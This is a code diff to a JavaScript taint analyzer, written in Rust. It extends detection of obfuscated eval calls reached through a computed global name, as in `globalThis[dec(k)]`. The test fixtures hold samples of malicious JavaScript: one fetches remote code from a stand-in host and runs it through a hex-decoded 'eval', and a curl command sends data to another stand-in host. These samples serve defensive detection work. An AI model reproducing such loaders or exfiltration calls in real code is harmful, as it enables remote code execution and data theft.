@@ -64,6 +64,7 @@ pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
         an,
         vars: HashMap::default(),
         filled: Default::default(),
+        global_picks: Default::default(),
         paths: HashMap::default(),
         params: HashMap::default(),
         returns: HashMap::default(),
@@ -171,6 +172,8 @@ struct Tracker<'b, 's> {
     vars: HashMap<String, Taint>,
     /// Variables the code filled with secrets field by field (`out[k] = process.env[k]`).
     filled: std::collections::HashSet<String>,
+    /// Variables holding a global picked by a computed name (`const g = globalThis[f(k)]`).
+    global_picks: std::collections::HashSet<String>,
     /// Variables holding a credential file's path (`const p = path.join(home, '.npmrc')`).
     paths: HashMap<String, String>,
     /// Local functions and their parameter names.
@@ -249,6 +252,23 @@ fn data_file(s: &str) -> Option<&'static str> {
 /// Calls that run a string as code; the index of the argument holding the code.
 /// The runner name of a global function called by a computed name (`globalThis[f(k)](x)`).
 const GLOBAL_BY_COMPUTED_NAME: &str = "globalThis[<computed>]";
+
+/// `globalThis[f(k)]`: a global picked by a name computed by a call (`window`, `global`, `self`
+/// too, when the code did not declare a variable of that name).
+fn global_by_computed_name(e: &Expression, declared: &HashMap<String, Taint>) -> bool {
+    let Expression::ComputedMemberExpression(m) = e.without_parentheses() else {
+        return false;
+    };
+    matches!(
+        m.object.without_parentheses(),
+        Expression::Identifier(g)
+            if matches!(g.name.as_str(), "globalThis" | "global" | "window" | "self")
+                && !declared.contains_key(g.name.as_str())
+    ) && matches!(
+        m.expression.without_parentheses(),
+        Expression::CallExpression(_)
+    )
+}
 
 pub fn code_runner(p: &str, n_args: usize) -> Option<usize> {
     match p {
@@ -1263,19 +1283,13 @@ impl Tracker<'_, '_> {
         }
         // A runner on an object the alias map does not know (`new Module(x)._compile(s)`).
         let runner = match callee.without_parentheses() {
-            // A global function picked by a name computed at run time (`globalThis[dec(k)](s)`):
-            // what it is given is run like `eval`'s argument, the only global worth hiding.
-            Expression::ComputedMemberExpression(m)
-                if matches!(
-                    m.object.without_parentheses(),
-                    Expression::Identifier(g)
-                        if matches!(g.name.as_str(), "globalThis" | "global" | "window" | "self")
-                            && !self.vars.contains_key(g.name.as_str())
-                ) && matches!(
-                    m.expression.without_parentheses(),
-                    Expression::CallExpression(_)
-                ) =>
-            {
+            // A global function picked by a name computed at run time (`globalThis[dec(k)](s)`,
+            // or kept first: `const g = globalThis[dec(k)]; g(s)`): what it is given is run
+            // like `eval`'s argument, the only global worth hiding.
+            e if global_by_computed_name(e, &self.vars) => {
+                Some(GLOBAL_BY_COMPUTED_NAME.to_string())
+            }
+            Expression::Identifier(id) if self.global_picks.contains(id.name.as_str()) => {
                 Some(GLOBAL_BY_COMPUTED_NAME.to_string())
             }
             _ => p.clone().or_else(|| match callee.without_parentheses() {
@@ -1475,6 +1489,11 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
 
     fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
         if let Some(init) = &it.init {
+            if let BindingPattern::BindingIdentifier(id) = &it.id
+                && global_by_computed_name(init, &self.vars)
+            {
+                self.global_picks.insert(id.name.to_string());
+            }
             if let BindingPattern::BindingIdentifier(id) = &it.id {
                 match init.without_parentheses() {
                     Expression::ArrowFunctionExpression(f) => {
@@ -1766,6 +1785,11 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
         let src = r#"function d(h, k) { let s = ""; for (let i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt(0)); return s; }
 async function go() { const res = await fetch("https://h.example/c"); const j = await res.json(); globalThis[d("2a", "K")](j.message); }"#;
         let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        let kept = r#"function d(h) { return Buffer.from(h, "hex").toString(); }
+const https = require("https");
+https.get("https://h.example/c", (r) => { let s = ""; r.on("data", (c) => (s += c)); r.on("end", () => { const g = globalThis[d("6576616c")]; g("(function(q){" + JSON.parse(s).x + "})")(require); }); });"#;
+        let r = runs(kept);
         assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
         // A callback named by the caller (JSONP) is given data, not code.
         let jsonp = r#"async function go(cb) { const res = await fetch("https://h.example/c"); window[cb](await res.json()); }
